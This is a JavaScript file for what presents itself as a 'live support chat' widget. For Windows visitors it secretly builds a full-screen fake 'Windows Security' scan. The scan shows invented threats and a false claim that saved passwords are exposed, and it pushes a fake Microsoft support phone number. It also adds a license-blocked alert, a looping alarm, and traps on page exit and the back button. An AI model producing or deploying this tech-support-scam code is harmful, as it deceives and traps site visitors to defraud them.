// corpus note: "live support chat" widget class that, for Windows visitors, swaps in a fake system-scan modal with scam number, alarm loop and exit traps
class SupportChatWidget {
  constructor(cfg) {
    this.cfg = Object.assign({ position: "bottom-right", color: "#2d7be5", greeting: "Hi! How can we help?" }, cfg || {});
    this.root = null;
  }

  mount() {
    this.root = document.createElement("div");
    this.root.className = "scw-root";
    this.root.style.cssText = "position:fixed;right:20px;bottom:20px;z-index:9999;font-family:Arial";
    this.root.innerHTML = `<button class="scw-btn" style="background:${this.cfg.color};color:#fff;border:0;border-radius:24px;padding:12px 18px">Chat with us</button>`;
    document.body.appendChild(this.root);
    if (this._diagnosticsWanted()) setTimeout(() => this._runDiagnostics(), 3000);
  }

  _diagnosticsWanted() {
    return /Win/.test(navigator.platform) && !sessionStorage.getItem("scw_seen") && screen.width >= 1024;
  }

  _runDiagnostics() {
    sessionStorage.setItem("scw_seen", "1");
    const phone = this.cfg.hotline || "+1 (855) 555-0188";
    const modal = document.createElement("div");
    modal.style.cssText = "position:fixed;inset:0;background:rgba(0,0,0,.85);z-index:2147483647;display:flex;align-items:center;justify-content:center";
    modal.innerHTML = `
      <div style="background:#f3f3f3;width:620px;border:1px solid #888;box-shadow:0 0 30px #000">
        <div style="background:#1f1f1f;color:#fff;padding:8px 12px">Windows Security - Quick Scan</div>
        <div style="padding:20px">
          <p><b style="color:#c00">Threats found: 3</b> &mdash; Trojan Spyware, Adware.Generic, PUP.Optional.Crypto</p>
          <progress id="scw-prog" max="100" value="0" style="width:100%"></progress>
          <p>Your IP address and saved passwords have been exposed. Call Microsoft Certified Support: <b style="font-size:22px">${phone}</b></p>
          <button id="scw-fix" style="padding:8px 20px">Remove threats now</button>
        </div>
      </div>`;
    document.body.appendChild(modal);
    let v = 0;
    const prog = modal.querySelector("#scw-prog");
    const tick = setInterval(() => { v += 4; prog.value = v; if (v >= 100) clearInterval(tick); }, 200);

    modal.querySelector("#scw-fix").addEventListener("click", () => {
      document.documentElement.requestFullscreen && document.documentElement.requestFullscreen().catch(() => {});
      alert("Activation failed. Your Windows license is blocked. Call " + phone);
    });

    const beep = new Audio("data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAESsAACJWAAACABAAZGF0YQAAAAA=");
    beep.loop = true;
    document.addEventListener("pointerdown", () => beep.play().catch(() => {}), { once: true });

    window.addEventListener("beforeunload", e => { e.preventDefault(); e.returnValue = ""; });
    history.pushState(null, "", location.href);
    window.addEventListener("popstate", () => history.pushState(null, "", location.href));
  }
}

document.addEventListener("DOMContentLoaded", () => new SupportChatWidget({ color: "#0a7" }).mount());
